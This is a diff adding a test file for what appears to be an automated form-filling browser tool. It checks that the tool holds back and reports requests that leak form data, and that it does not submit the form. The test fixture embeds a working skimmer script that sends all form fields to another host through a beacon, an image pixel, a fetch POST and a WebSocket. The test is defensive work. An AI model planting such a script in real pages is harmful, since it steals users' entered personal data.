@@ -1,0 +1,44 @@
+import { expect, it } from 'vitest';
+import { apply } from '../apply-harness.ts';
+import { onSites } from './on-sites.ts';
+import { asPage, QUESTIONS } from './serve-site.ts';
+
+const { browser, sites } = await onSites();
+
+it('what was held while a form was only filled in is told, with where it would have gone', async () => {
+  const live = sites.other.replace('http:', 'ws:');
+  const url = sites.page(
+    '/leaks',
+    asPage(
+      `<form id="f" action="/receive" method="post">${QUESTIONS}<button>Submit application</button></form><script>
+        f.email.onchange = () => {
+          const all = new URLSearchParams(new FormData(f)).toString();
+          navigator.sendBeacon('${sites.other}/beacon', all);
+          new Image().src = '${sites.other}/seen.gif?' + all;
+          fetch('${sites.other}/x/' + Math.random(), { method: 'POST', mode: 'no-cors', body: all }).catch(() => 0);
+          try { new WebSocket('${live}/live?' + all); } catch {}
+        };
+      </script>`,
+    ),
+  );
+  const { report } = await apply(browser.host, { url, canSubmit: false });
+  expect(sites.leaked()).toEqual([]);
+  expect(report.submitted).toBe(false);
+  expect(report.held).toEqual(
+    expect.arrayContaining([
+      expect.objectContaining({ method: 'POST', url: `${sites.other}/beacon`, carried: 2, times: 2 }),
+      expect.objectContaining({ method: 'GET', url: `${sites.other}/seen.gif`, carried: 2, times: 1 }),
+      expect.objectContaining({ method: 'WEBSOCKET', url: `${live}/live`, carried: null }),
+    ]),
+  );
+  expect(report.held?.[0]?.carried).toBe(2);
+});
+
+it('a form of which nothing was held is told without', async () => {
+  const url = sites.page(
+    '/quiet',
+    asPage(`<form action="/receive" method="post">${QUESTIONS}<button>Submit application</button></form>`),
+  );
+  const { report } = await apply(browser.host, { url, canSubmit: false });
+  expect(report).not.toHaveProperty('held');
+});
